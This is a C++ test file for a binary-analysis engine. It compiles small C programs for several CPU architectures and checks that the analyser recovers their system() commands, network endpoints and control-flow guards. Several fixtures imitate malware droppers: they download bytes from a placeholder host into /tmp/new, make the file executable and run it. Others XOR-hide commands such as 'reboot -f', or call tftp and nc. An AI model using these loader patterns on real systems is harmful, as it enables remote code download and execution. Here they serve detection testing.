// Why: the engine's promise is that one source gives the same facts on every machine and at every optimisation level.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "flow/flow.h"
#include "flow/models.h"

namespace flow {
namespace {

struct Target {
  const char* name;
  const char* compiler;
  const char* level;
};

std::vector<Target> targets() {
  std::vector<Target> out;
  for (const auto& [name, compiler] : {std::pair{"armel", "arm-linux-gnueabi-gcc"}, {"armhf", "arm-linux-gnueabihf-gcc"},
                                       {"arm64", "aarch64-linux-gnu-gcc"}, {"mips", "mips-linux-gnu-gcc"},
                                       {"mipsel", "mipsel-linux-gnu-gcc"}, {"i386", "i686-linux-gnu-gcc"},
                                       {"amd64", "gcc"}, {"powerpc", "powerpc-linux-gnu-gcc"}})
    for (const char* level : {"O0", "O2", "Os"}) out.push_back({name, compiler, level});
  return out;
}

// The bytes of a program compiled for `t`; empty when the compiler is missing.
base::Bytes build(const Target& t, const std::string& source, const std::string& options = "") {
  if (std::system(("command -v " + std::string(t.compiler) + " >/dev/null 2>&1").c_str()) != 0) return {};
  const auto folder = std::filesystem::temp_directory_path() / ("biopsy-flow-" + std::to_string(getpid()));
  std::filesystem::create_directories(folder);
  std::ofstream(folder / "in.c") << source;
  const std::string command = std::string(t.compiler) + " -w -" + t.level + " " + options + " -o " + (folder / "out").string() + " " + (folder / "in.c").string();
  base::Bytes bytes;
  if (std::system(command.c_str()) == 0)
    if (auto read = base::read_file((folder / "out").string())) bytes = *read;
  std::filesystem::remove_all(folder);
  return bytes;
}

struct Run {
  base::Bytes bytes;
  std::optional<elf::Binary> binary;
  std::optional<Program> program;
};

Run analyse_source(const Target& t, const std::string& source, const std::string& options = "", const Budget& budget = {}) {
  Run run;
  run.bytes = build(t, source, options);
  if (run.bytes.empty()) return run;
  auto binary = elf::read(run.bytes);
  if (!binary) return run;
  run.binary = std::move(*binary);
  auto program = analyse(*run.binary, run.bytes, budget);
  EXPECT_TRUE(program) << program.error().message;
  if (program) run.program = std::move(*program);
  return run;
}

// The calls of `callee` in which argument `arg` can be exactly `text`.
std::vector<std::uint32_t> calls_with(const Program& p, const std::string& callee, std::size_t arg, const std::string& text) {
  std::vector<std::uint32_t> out;
  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
    const auto& c = p.calls[i];
    if (c.callee != callee || c.args.size() <= arg) continue;
    if (std::find(c.args[arg].values.begin(), c.args[arg].values.end(), text) != c.args[arg].values.end()) out.push_back(i);
  }
  return out;
}

std::string all_calls(const Program& p) { return dump_calls_jsonl(p, "program"); }

bool contains(const std::vector<std::uint32_t>& v, std::uint32_t x) { return std::find(v.begin(), v.end(), x) != v.end(); }

class EveryBuild : public testing::TestWithParam<Target> {};

TEST_P(EveryBuild, a_command_built_two_calls_deep_and_what_it_guards) {
  const auto run = analyse_source(GetParam(), R"(
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
static char server[64];
static void add_host(char *out, const char *host) { strcat(out, host); strcat(out, ":/pm"); }
static void build(char *out, const char *host) { strcpy(out, "mount -o nolock -t nfs "); add_host(out, host); strcat(out, " /mnt"); }
static int run(const char *c) { int rc = system(c); if (rc) printf("failed %d\n", rc); return rc; }
int main(int argc, char **argv) {
  char cmd[256];
  system("ifconfig eth0 up");
  strcpy(server, "198.51.100.7");
  build(cmd, server);
  if (run(cmd) == 0) {
    snprintf(cmd, sizeof cmd, "cp -rf %s/* /opt/bin%d", "/mnt", 7);
    run(cmd);
  }
  mount("198.51.100.8:/x", "/mnt2", "nfs", MS_NOATIME, "nolock");
  return 0;
})");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  const auto up = calls_with(p, "system", 0, "ifconfig eth0 up");
  const auto mounts = calls_with(p, "system", 0, "mount -o nolock -t nfs 198.51.100.7:/pm /mnt");
  const auto copies = calls_with(p, "system", 0, "cp -rf /mnt/* /opt/bin7");
  ASSERT_EQ(up.size(), 1u) << all_calls(p);
  ASSERT_EQ(mounts.size(), 1u) << all_calls(p);
  ASSERT_EQ(copies.size(), 1u) << all_calls(p);
  EXPECT_TRUE(contains(p.calls[copies[0]].guards, mounts[0])) << "the copy happens only if the mount succeeded\n" << all_calls(p);
  EXPECT_TRUE(contains(p.calls[copies[0]].precedes, up[0]));
  EXPECT_FALSE(contains(p.calls[mounts[0]].guards, up[0])) << "nobody looks at what ifconfig returned";
  EXPECT_EQ(p.calls[up[0]].reached_from.front(), "main");
  const auto direct = calls_with(p, "mount", 0, "198.51.100.8:/x");
  ASSERT_EQ(direct.size(), 1u) << all_calls(p);
  EXPECT_EQ(p.calls[direct[0]].args[1].values, std::vector<std::string>{"/mnt2"});
  EXPECT_EQ(p.calls[direct[0]].args[4].values, std::vector<std::string>{"nolock"});
  EXPECT_FALSE(contains(p.calls[direct[0]].guards, mounts[0])) << "it happens either way";
}

TEST_P(EveryBuild, a_download_that_becomes_a_program) {
  const auto run = analyse_source(GetParam(), R"(
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <netinet/in.h>
int main(void) {
  struct sockaddr_in a; char buf[512]; int n;
  memset(&a, 0, sizeof a); a.sin_family = AF_INET; a.sin_port = htons(5150); a.sin_addr.s_addr = htonl(0xC6336409);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return 1;
  FILE *f = fopen("/tmp/new", "wb");
  while ((n = recv(s, buf, sizeof buf, 0)) > 0) fwrite(buf, 1, n, f);
  fclose(f);
  chmod("/tmp/new", 0755);
  char *args[] = {"/tmp/new", "-d", 0};
  execv("/tmp/new", args);
  return 0;
})");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  std::uint32_t connect = UINT32_MAX, recv = UINT32_MAX, write = UINT32_MAX;
  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
    if (p.calls[i].callee == "connect") connect = i;
    if (p.calls[i].callee == "recv") recv = i;
    if (p.calls[i].callee == "fwrite") write = i;
  }
  ASSERT_NE(connect, UINT32_MAX) << all_calls(p);
  ASSERT_NE(write, UINT32_MAX) << all_calls(p);
  ASSERT_TRUE(p.calls[connect].endpoint);
  EXPECT_EQ(p.calls[connect].endpoint->address, "198.51.100.9");
  EXPECT_EQ(p.calls[connect].endpoint->port, 5150);
  EXPECT_TRUE(contains(p.calls[write].feeds, recv)) << all_calls(p);
  const auto chmods = calls_with(p, "chmod", 0, "/tmp/new");
  ASSERT_EQ(chmods.size(), 1u) << all_calls(p);
  EXPECT_EQ(p.calls[chmods[0]].args[1].numbers, std::vector<std::int64_t>{0755});
  EXPECT_TRUE(contains(p.calls[chmods[0]].guards, connect));
  const auto runs = calls_with(p, "execv", 0, "/tmp/new");
  ASSERT_EQ(runs.size(), 1u) << all_calls(p);
  ASSERT_EQ(p.calls[runs[0]].args.size(), 3u);
  EXPECT_EQ(p.calls[runs[0]].args[2].values, std::vector<std::string>{"-d"});
}

TEST_P(EveryBuild, decoders_tables_and_handlers) {
  const auto run = analyse_source(GetParam(), R"(
#include <stdlib.h>
#include <signal.h>
#include <stdio.h>
#include <stdarg.h>
static const unsigned char hidden[] = {0x28, 0x3f, 0x38, 0x35, 0x35, 0x2e, 0x7a, 0x77, 0x3c, 0x5a};
static void decode(char *out, const unsigned char *in, int n) { for (int i = 0; i < n; i++) out[i] = in[i] ^ 0x5a; }
static int first(void) { return system("first table entry"); }
static int second(void) { return system("second table entry"); }
static int (*const table[])(void) = {first, second};
static void on_signal(int n) { system("from a signal"); }
static void say(const char *format, ...) { char b[128]; va_list ap; va_start(ap, format); vsnprintf(b, sizeof b, format, ap); va_end(ap); system(b); }
int main(int argc, char **argv) {
  char out[32];
  decode(out, hidden, sizeof hidden);
  signal(SIGUSR1, on_signal);
  system(out);
  say("echo %s %d > /proc/%s", "one", 2, "three");
  const char *p = getenv("PEER");
  snprintf(out, sizeof out, "ping %s", p ? p : "198.51.100.1");
  system(out);
  return table[argc & 1]();
})");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  EXPECT_EQ(calls_with(p, "system", 0, "reboot -f").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "system", 0, "echo one 2 > /proc/three").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "system", 0, "ping 198.51.100.1").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "system", 0, "ping ${env:PEER}").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "system", 0, "first table entry").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "system", 0, "second table entry").size(), 1u) << all_calls(p);
  const auto handler = calls_with(p, "system", 0, "from a signal");
  ASSERT_EQ(handler.size(), 1u) << all_calls(p);
  EXPECT_TRUE(p.calls[handler[0]].reached_from.front().starts_with("signal:"));
}

// Nothing in it has a name: neither the program's functions nor the C library's that was linked in.
TEST_P(EveryBuild, a_static_program_without_symbols) {
  const auto run = analyse_source(GetParam(), R"(
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
static char server[64];
static void __attribute__((noinline)) build(char *out, const char *host) { strcpy(out, "mount -t nfs "); strcat(out, host); strcat(out, ":/pm /mnt"); }
static int __attribute__((noinline)) run(const char *c) { int rc = system(c); if (rc) printf("failed %d\n", rc); return rc; }
int main(int argc, char **argv) {
  char cmd[256], block[300]; int n;
  if (argc > 1 && strcmp(argv[1], "--help") == 0) { puts("usage: program"); return 0; }
  strcpy(server, "198.51.100.7");
  build(cmd, server);
  if (run(cmd) == 0) {
    snprintf(cmd, sizeof cmd, "cp -rf %s/* /opt/bin%d", "/mnt", 7);
    run(cmd);
  }
  mount("198.51.100.8:/x", "/mnt2", "nfs", MS_NOATIME, "nolock");
  struct sockaddr_in a;
  memset(&a, 0, sizeof a); a.sin_family = AF_INET; a.sin_port = htons(5150); a.sin_addr.s_addr = htonl(0xC6336409);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return 1;
  int f = open("/tmp/new", O_WRONLY | O_CREAT, 0644);
  while ((n = recv(s, block, sizeof block, 0)) > 0) write(f, block, n);
  close(f);
  chmod("/tmp/new", 0755);
  FILE *list = fopen("/tmp/list", "w");
  fprintf(list, "%s\n", server);
  fclose(list);
  char *const args[] = {"new", "-d", 0};
  execv("/tmp/new", args);
  return 0;
})", "-static -s -fno-pie -no-pie");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler << " and its static C library";
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  const auto mounts = calls_with(p, "system", 0, "mount -t nfs 198.51.100.7:/pm /mnt");
  const auto copies = calls_with(p, "system", 0, "cp -rf /mnt/* /opt/bin7");
  ASSERT_EQ(mounts.size(), 1u) << all_calls(p);
  ASSERT_EQ(copies.size(), 1u) << all_calls(p);
  EXPECT_TRUE(contains(p.calls[copies[0]].guards, mounts[0])) << all_calls(p);
  EXPECT_EQ(calls_with(p, "mount", 0, "198.51.100.8:/x").size(), 1u) << all_calls(p);
  std::uint32_t connect = UINT32_MAX, recv = UINT32_MAX, write = UINT32_MAX;
  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
    if (p.calls[i].callee == "connect") connect = i;
    if (p.calls[i].callee == "recv") recv = i;
    if (p.calls[i].callee == "write") write = i;
  }
  ASSERT_NE(connect, UINT32_MAX) << all_calls(p);
  ASSERT_NE(write, UINT32_MAX) << all_calls(p);
  ASSERT_TRUE(p.calls[connect].endpoint);
  EXPECT_EQ(p.calls[connect].endpoint->address, "198.51.100.9");
  EXPECT_EQ(p.calls[connect].endpoint->port, 5150);
  EXPECT_TRUE(contains(p.calls[write].feeds, recv)) << all_calls(p);
  EXPECT_EQ(calls_with(p, "chmod", 0, "/tmp/new").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "fopen", 0, "/tmp/list").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "fprintf", 1, "198.51.100.7\n").size(), 1u) << all_calls(p);
  EXPECT_EQ(calls_with(p, "execv", 0, "/tmp/new").size(), 1u) << all_calls(p);
}

// A decoder's loop is run to its end however many calls were made before it, and a program run by a child and waited for
// decides what follows just as system() would.
TEST_P(EveryBuild, long_decoders_and_children_that_are_waited_for) {
  const auto run = analyse_source(GetParam(), R"(
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
static const unsigned char hidden[] = {37, 42, 24, 20, 21, 91, 19, 23, 93, 90, 27, 18, 16, 19, 27, 16, 28, 17, 23, 23, 82, 92, 82, 91, 27,
  18, 16, 19, 27, 16, 28, 17, 23, 23, 82, 92, 82, 91, 27, 18, 16, 19, 27, 16, 28, 17, 23, 23, 82, 92, 82, 91, 27, 18, 16, 19, 27, 16, 28, 17};
static char out[sizeof hidden + 1];
void __attribute__((noinline)) decode(char *to, const unsigned char *from, int n) { int i; for (i = 0; i < n; ++i) to[i] = from[i] ^ 0x7c; to[n] = 0; }
int __attribute__((noinline)) run(const char *command) {
  int status = -1;
  pid_t child = fork();
  if (child == 0) { execl("/bin/sh", "sh", "-c", command, (char *)0); _exit(127); }
  if (child < 0 || waitpid(child, &status, 0) != child) return -1;
  return status;
}
int main(void) {
  system("1"); system("2"); system("3"); system("4"); system("5"); system("6"); system("7"); system("8"); system("9"); system("10");
  decode(out, hidden, sizeof hidden);
  system(out);
  if (run("check /tmp/new") != 0) return 1;
  system("sh /tmp/new");
  return 0;
})");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  std::string text;
  for (const unsigned c : {37U, 42U, 24U, 20U, 21U, 91U, 19U, 23U, 93U, 90U, 27U, 18U, 16U, 19U, 27U, 16U, 28U, 17U, 23U, 23U, 82U, 92U, 82U, 91U, 27U, 18U, 16U, 19U, 27U, 16U,
                                28U, 17U, 23U, 23U, 82U, 92U, 82U, 91U, 27U, 18U, 16U, 19U, 27U, 16U, 28U, 17U, 23U, 23U, 82U, 92U, 82U, 91U, 27U, 18U, 16U, 19U, 27U, 16U, 28U, 17U})
    text += static_cast<char>(c ^ 0x7cU);
  EXPECT_EQ(calls_with(p, "system", 0, text).size(), 1u) << all_calls(p);
  const auto check = calls_with(p, "execl", 3, "check /tmp/new");
  const auto after = calls_with(p, "system", 0, "sh /tmp/new");
  ASSERT_EQ(check.size(), 1u) << all_calls(p);
  ASSERT_EQ(after.size(), 1u) << all_calls(p);
  EXPECT_TRUE(contains(p.calls[after[0]].guards, check[0])) << all_calls(p);
}

TEST_P(EveryBuild, equal_inputs_give_equal_bytes) {
  const auto run = analyse_source(GetParam(), "#include <stdlib.h>\nint main(int c, char **v) { return system(c > 1 ? v[1] : \"id\"); }");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto again = analyse(*run.binary, run.bytes);
  ASSERT_TRUE(again);
  EXPECT_EQ(all_calls(*run.program), all_calls(*again));
  EXPECT_NE(all_calls(*run.program).find("${argv[1]}") == std::string::npos && all_calls(*run.program).find("argv[1]") == std::string::npos, true);
}

// The kernel's entry of each machine, as programs without a C library write it.
const char* const raw_call = R"c(
#include <sys/syscall.h>
static __attribute__((noinline)) long raw(long n, long a, long b, long c, long d) {
#if defined __x86_64__
  long r; register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory"); return r;
#elif defined __i386__
  long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c), "S"(d) : "memory"); return r;
#elif defined __aarch64__
  register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory"); return x0;
#elif defined __arm__
  register long r0 __asm__("r0") = a, r1 __asm__("r1") = b, r2 __asm__("r2") = c, r3 __asm__("r3") = d;
  __asm__ volatile("push {r7}\n mov r7, %1\n svc 0\n pop {r7}" : "+r"(r0) : "r"(n), "r"(r1), "r"(r2), "r"(r3) : "memory"); return r0;
#elif defined __mips__
  register long v0 __asm__("$2") = n, a0 __asm__("$4") = a, a1 __asm__("$5") = b, a2 __asm__("$6") = c, a3 __asm__("$7") = d;
  __asm__ volatile("syscall" : "+r"(v0), "+r"(a3) : "r"(a0), "r"(a1), "r"(a2) : "$1", "$3", "$8", "$9", "$10", "$11", "$12", "$13", "$14", "$15", "$24", "$25", "memory");
  return a3 ? -v0 : v0;
#else
  register long r0 __asm__("r0") = n, r3 __asm__("r3") = a, r4 __asm__("r4") = b, r5 __asm__("r5") = c, r6 __asm__("r6") = d;
  __asm__ volatile("sc\n bns+ 1f\n neg %1, %1\n 1:" : "+r"(r0), "+r"(r3), "+r"(r4), "+r"(r5), "+r"(r6) : : "cr0", "r7", "r8", "r9", "r10", "r11", "r12", "memory"); return r3;
#endif
}
)c";

TEST_P(EveryBuild, what_raw_system_calls_are_given_after_others_have_returned) {
  const auto run = analyse_source(GetParam(), std::string(raw_call) + R"c(
static __attribute__((noinline)) long keep(long from, const char *path) {
  char part[512];
  long n, to = raw(SYS_openat, -100, (long)path, 0x241, 0600);
  if (to < 0) return -1;
  while ((n = raw(SYS_read, from, (long)part, sizeof part, 0)) > 0) raw(SYS_write, to, (long)part, n, 0);
  raw(SYS_close, to, 0, 0, 0);
  return n;
}
int main(void) {
  long in = raw(SYS_openat, -100, (long)"/srv/whole", 0, 0);
  if (in < 0) return 1;
  if (keep(in, "/srv/copied") == 0) raw(SYS_fchmodat, -100, (long)"/srv/copied", 0755, 0);
  return 0;
})c");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  const auto whole = calls_with(p, "openat", 1, "/srv/whole"), copied = calls_with(p, "openat", 1, "/srv/copied"), marked = calls_with(p, "fchmodat", 1, "/srv/copied");
  ASSERT_EQ(whole.size(), 1u) << all_calls(p);
  ASSERT_EQ(copied.size(), 1u) << all_calls(p);
  ASSERT_EQ(marked.size(), 1u) << all_calls(p);
  EXPECT_TRUE(contains(p.calls[marked[0]].guards, copied[0])) << all_calls(p);
  const auto written = calls_with(p, "write", 0, "ret:openat:/srv/copied");
  ASSERT_EQ(written.size(), 1u) << all_calls(p);
  EXPECT_TRUE(p.calls[written[0]].raw);
  EXPECT_TRUE(p.calls[written[0]].args[1].buffer_id.starts_with("stack:")) << "also where the pointer is made under a condition\n" << all_calls(p);
  EXPECT_EQ(p.calls[written[0]].args[1].values, std::vector<std::string>{"${read:/srv/whole}"}) << all_calls(p);
}

TEST_P(EveryBuild, a_command_decoded_where_an_earlier_one_succeeded) {
  const auto run = analyse_source(GetParam(), R"c(
#include <stdlib.h>
static const unsigned char hidden[] = {46, 62, 111, 125, 55, 114, 124, 39, 39, 32, 120, 54, 60, 45, 123, 115, 50, 46, 43, 79, 3, 11, 13, 75, 1, 3, 17, 1, 10, 15};
int main(void) {
  char command[64]; unsigned i;
  if (system("true") != 0) return 1;
  for (i = 0; i < sizeof hidden; ++i) command[i] = hidden[i] ^ (0x4D + i);
  command[i] = 0;
  return system(command);
})c");
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  const auto first = calls_with(p, "system", 0, "true"), last = calls_with(p, "system", 0, "cp -f /srv/new /opt/bin/device");
  ASSERT_EQ(first.size(), 1u) << all_calls(p);
  ASSERT_EQ(last.size(), 1u) << "each state is followed with its own pointers\n" << all_calls(p);
  EXPECT_EQ(p.calls[last[0]].args[0].values.size(), 1u) << all_calls(p);
  EXPECT_TRUE(contains(p.calls[last[0]].guards, first[0])) << all_calls(p);
}

// std::string and streams, whether their members are inlined or called.
TEST_P(EveryBuild, cxx_strings_and_streams_are_followed) {
  const auto run = analyse_source(GetParam(), R"(
#include <cstdlib>
#include <sstream>
#include <string>
int fetch(const std::string &host) {
  std::string line = "tftp -g -r ";
  line += "firmware.bin";
  line += ' ';
  return std::system((line + host).c_str());
}
int show(int port) {
  std::ostringstream out;
  out << "nc " << std::string("198.51.100.9") << ' ' << port;
  return std::system(out.str().c_str());
}
int main() { return fetch("198.51.100.7") + show(8080); }
)", "-x c++ -std=c++17 -Wl,--no-as-needed -lstdc++");
  if (!run.program) GTEST_SKIP() << "needs a C++ compiler for " << GetParam().name;
  EXPECT_FALSE(calls_with(*run.program, "system", 0, "tftp -g -r firmware.bin 198.51.100.7").empty());
  EXPECT_FALSE(calls_with(*run.program, "system", 0, "nc 198.51.100.9 8080").empty());
}

INSTANTIATE_TEST_SUITE_P(Builds, EveryBuild, testing::ValuesIn(targets()),
                         [](const auto& target) { return std::string(target.param.name) + "_" + target.param.level; });

// A function is not followed from each of very many callers; what they hand to it is told all the same, and the same on every machine.
TEST_P(EveryBuild, each_function_by_itself) {
  std::string source = R"(
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static __attribute__((noinline)) int run(const char *what) { int rc = system(what); if (rc) puts("failed"); return rc; }
static __attribute__((noinline)) void run_both(int n, const char *what) { printf("%d\n", n); run(what); puts("done"); }
static const char *const names[] = {"alpha", "beta", "gamma", "delta"};
__attribute__((noinline)) int find(const char *n) { for (int i = 0; i < 4; ++i) if (!strcmp(names[i], n)) return i; return -1; }
int main(int argc, char **argv) {
)";
  for (int i = 100; i < 250; ++i) source += "  run" + std::string(i % 10 == 0 ? "_both(argc, " : "(") + "\"touch /tmp/" + std::to_string(i) + "\");\n";
  source += "  return find(argv[0]);\n}\n";
  const auto told = [](const Program& p) {
    std::size_t n = 0;
    for (int i = 100; i < 250; ++i) n += calls_with(p, "system", 0, "touch /tmp/" + std::to_string(i)).empty() ? 0 : 1;
    return n;
  };
  Budget budget;
  budget.alone = Budget::Alone::none;
  const auto without = analyse_source(GetParam(), source, "", budget);
  if (without.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(without.program);
  EXPECT_LT(told(*without.program), 150u) << "this program no longer shows what reading by itself adds";
  for (const auto alone : {Budget::Alone::unreached, Budget::Alone::every}) {
    budget.alone = alone;
    const auto run = analyse_source(GetParam(), source, "", budget);
    ASSERT_TRUE(run.program);
    EXPECT_EQ(told(*run.program), 150u);
    // Unoptimised, a counter of half a word lives on the stack, and what a loop makes of it there is not seen on 64-bit machines.
    const bool seen = std::string(GetParam().level) != "O0";
    for (const char* name : {"alpha", "beta", "gamma", "delta"})
      EXPECT_TRUE(!seen || !calls_with(*run.program, "strcmp", 0, name).empty()) << name << '\n' << all_calls(*run.program);
  }
}

// A wrapper is handed its format and more than fit in registers; a switch chooses by a letter less the least one, in a local function
// that takes its number in a register whatever the calling convention says. All of it read without a caller.
TEST_P(EveryBuild, a_wrappers_format_and_a_switchs_cases_by_themselves) {
  std::string source = R"(
#include <stdio.h>
#include <stdlib.h>
int (*volatile unknown)(int);
struct state { unsigned char letters[300]; int at; };
static struct state *volatile current;
static __attribute__((noinline, noclone)) void tell(const char *file, int line, const char *what, const char *format) {
  fprintf(stderr, format, file, line, what);
}
static __attribute__((noinline, noclone)) void fail(void *a, int b, int c, int d, const char *what, int e, const char *file) { tell(file, d + b, what, "%s.%d: %s\n"); abort(); }
static __attribute__((noinline)) int act(int key) {
  switch ((unsigned char)key) {
)";
  const auto number = [](int i) { return std::to_string(i); };
  for (int i = 0; i < 20; ++i) source += "    case " + number('1' + i) + ": return system(\"/bin/case" + number(i) + "\") + unknown(" + number(i * 7919) + ");\n";
  source += R"(  }
  return 0;
}
__attribute__((noinline)) int step(struct state *s) {
  if (s->at < 0) fail(s, 1, 2, 3, "at below nought", 4, "first.c");
  return act(s->letters[s->at]);
}
__attribute__((noinline)) int other(struct state *s) {
  if (!s) fail(s, 5, 6, 7, "there is no state", 8, "second.c");
  return act(s->letters[0] - 1);
}
int main(void) {
  if (current) return 0;
  return 1;
})";
  Budget budget;
  budget.alone = Budget::Alone::every;
  const auto run = analyse_source(GetParam(), source, "", budget);
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  for (int i = 0; i < 20; ++i) EXPECT_FALSE(calls_with(*run.program, "system", 0, "/bin/case" + number(i)).empty()) << i << '\n' << all_calls(*run.program);
  for (const char* text : {"first.c", "second.c", "at below nought", "there is no state"})
    EXPECT_TRUE(std::ranges::any_of(run.program->calls, [&](const CallSite& call) {
      return call.callee == "fprintf" && std::ranges::any_of(call.args, [&](const ArgValue& arg) { return std::ranges::any_of(arg.values, [&](const auto& v) { return v.contains(text); }); });
    })) << text << '\n' << all_calls(*run.program);
  for (const auto& call : run.program->calls)
    EXPECT_TRUE(call.callee != "fprintf" || call.args.size() <= 5) << "more arguments than the format has\n" << all_calls(*run.program);
}

// Where the length of a text is known, compilers compare eight letters at once and call nothing: the check is told all the same.
TEST_P(EveryBuild, a_text_compared_in_words_of_eight_letters) {
  const std::string source = R"(
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(void) {
  char word[64] = "";
  unsigned long key = 0;
  FILE *f = fopen("/media/word", "r");
  if (!f || fread(word, 1, sizeof word, f) != sizeof word) return 1;
  fclose(f);
  if (memcmp(word, "OPEN-SESAME-KEY!", 16) != 0) return 2;
  system("/bin/first");
  memcpy(&key, word + 16, sizeof key);
  if (key == 0x0102030405060708ul) return 3;
  return system("/bin/second");
})";
  const auto run = analyse_source(GetParam(), source);
  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
  ASSERT_TRUE(run.program);
  const auto& p = *run.program;
  const auto first = calls_with(p, "system", 0, "/bin/first"), second = calls_with(p, "system", 0, "/bin/second");
  ASSERT_EQ(first.size(), 1u);
  ASSERT_EQ(second.size(), 1u);
  std::vector<std::uint32_t> checks = calls_with(p, "memcmp", 1, "OPEN-SESAME-KEY!");
  for (const char* part : {"OPEN-SES", "AME-KEY!"})
    for (const auto i : calls_with(p, "memcmp", 1, part)) checks.push_back(i);
  ASSERT_FALSE(checks.empty()) << all_calls(p);
  const auto reads = std::ranges::find_if(p.calls, [](const CallSite& c) { return c.callee == "fread"; }) - p.calls.begin();
  for (const auto check : checks) {
    EXPECT_TRUE(contains(p.calls[check].feeds, static_cast<std::uint32_t>(reads))) << all_calls(p);
    EXPECT_TRUE(contains(p.calls[first[0]].guards, check)) << all_calls(p);
    EXPECT_FALSE(contains(p.calls[check].guards, check));
  }
  for (const auto& call : p.calls)  // a number that is no text is no check of one
    EXPECT_TRUE(call.callee != "memcmp" || !call.inferred || call.args[1].values[0].find('\x07') == std::string::npos);
}

TEST(Models, every_entry_of_the_file_is_understood) {
  EXPECT_EQ(models_error(), "");
  EXPECT_GT(model_names().size(), 200u);
  std::vector<int> skip;
  ASSERT_NE(model_for("__snprintf_chk", skip), nullptr);
  EXPECT_EQ(model_for("__snprintf_chk", skip)->name, "snprintf");
  EXPECT_EQ(skip, (std::vector<int>{2, 3}));
  EXPECT_EQ(model_for("open64", skip)->name, "open");
  EXPECT_EQ(model_for("__isoc99_sscanf", skip)->name, "sscanf");
  EXPECT_EQ(model_for("nothing_like_it", skip), nullptr);
}

}  // namespace
}  // namespace flow
